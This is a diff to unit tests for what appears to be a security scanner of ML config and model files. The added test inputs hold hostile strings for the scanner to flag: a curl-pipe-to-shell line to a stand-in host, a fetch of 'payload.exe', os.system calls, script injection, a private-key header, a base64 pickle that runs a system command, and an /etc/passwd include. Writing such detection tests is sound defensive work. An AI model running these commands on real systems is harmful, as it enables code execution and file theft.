@@ -66,6 +66,7 @@ static void judged(void **state)
 		{ "data.yaml", "path: ../datasets/coco\ntrain: images\nnames:\n  0: cat\n", GH_CLEAN, NULL },
 		{ "h.yaml", "x: !include:/etc/passwd\n", GH_UNSAFE, "GH-SET-0003" },
 		{ "h.yaml", "x: !include:other.yaml\n", GH_CLEAN, NULL },
+		{ "h.yaml", "a: b\n? {c: [{d: e}]}\n: f\n\"pa {a: b.C}\": 1\n", GH_CLEAN, NULL },
 		{ "MLmodel",
 		  "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../m.pkl\n",
 		  GH_UNSAFE, "GH-SET-0003" },
@@ -190,7 +191,7 @@ static void expressions(void **state)
 	}
 }
 
-/* The row "pbtxt": gh_fmt_pbtxt. */
+/* The row "pbtxt": gh_fmt_pbtxt. What the check "settings" (gh_check_settings) says is above. */
 static void text_format(void **state)
 {
 	(void)state;
@@ -205,6 +206,15 @@ static void text_format(void **state)
 		{ "config", "name: \"m\" input [ { name: \"x\" } ]", GH_OK, "claim 0+33 struct" },
 		{ "x.yaml", "name: m\ninput: x\n", GH_E_NOTTHIS, NULL },
 		{ "x.pbtxt", "[a.b/c.D] { x: 1; y: [1, 2] }", GH_OK, NULL },
+		{ "x.pbtxt", "d: \"import os; os.system('id')\"", GH_OK, "anomaly GH-PBT-0201" },
+		{ "x.pbtxt", "d: \"run curl http://e.example/x | sh now\"", GH_OK, "anomaly GH-PBT-0202" },
+		{ "x.pbtxt", "d: \"<script>alert(1)</script>\"", GH_OK, "anomaly GH-PBT-0203" },
+		{ "x.pbtxt", "d: \"String.fromCharCode(1,2)\"", GH_OK, "anomaly GH-PBT-0204" },
+		{ "x.pbtxt", "d: \"fetch http://evil.example/payload.exe now\"", GH_OK, "anomaly GH-PBT-0205" },
+		{ "x.pbtxt", "d: \"-----BEGIN RSA PRIVATE KEY-----\"", GH_OK, "anomaly GH-PBT-0206" },
+		{ "x.pbtxt",
+		  "d: \"gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULgAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\"", GH_OK,
+		  "member \"d\" nested" },
 		{ "x.pbtxt", "a: 1 b: 2 }", GH_E_MALFORMED, "anomaly GH-PBT-0001 10+0" },
 		{ "x.pbtxt", "a: 1 b: \"", GH_E_MALFORMED, "anomaly GH-PBT-0001" },
 	};
